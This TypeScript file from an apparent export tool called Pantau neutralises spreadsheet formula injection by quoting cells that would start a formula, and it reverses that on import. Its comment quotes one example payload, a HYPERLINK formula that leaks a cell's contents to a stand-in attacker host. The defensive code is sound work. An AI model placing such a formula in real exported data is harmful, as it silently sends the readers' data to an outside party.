/**
 * Text that a spreadsheet program would run as a formula. A cell of an exported CSV or XLSX that
 * starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some programs skip before
 * reading one of those) is taken as a formula when a person opens the file: a council's measurement
 * source `=HYPERLINK("http://evil.example/?leak="&A1,"x")` would run on the reader's machine. OWASP's
 * CSV-injection guidance: prefix such a cell with a single quote, which spreadsheet programs read as
 * "this is text". Numbers are no formulas and stay as they are, so `-3` is still the number -3.
 */

const FORMULA_START = /^[=+\-@\t\r]/
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/

/** `text` as it is safe to write into a spreadsheet cell: prefixed with `'` when it would start a formula. */
export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text
}

/** The text a cell held before `neutraliseFormula`, so a file Pantau exported imports back unchanged. */
export function withoutFormulaGuard(text: string): string {
  return text.startsWith("'") && neutraliseFormula(text.slice(1)) === text ? text.slice(1) : text
}
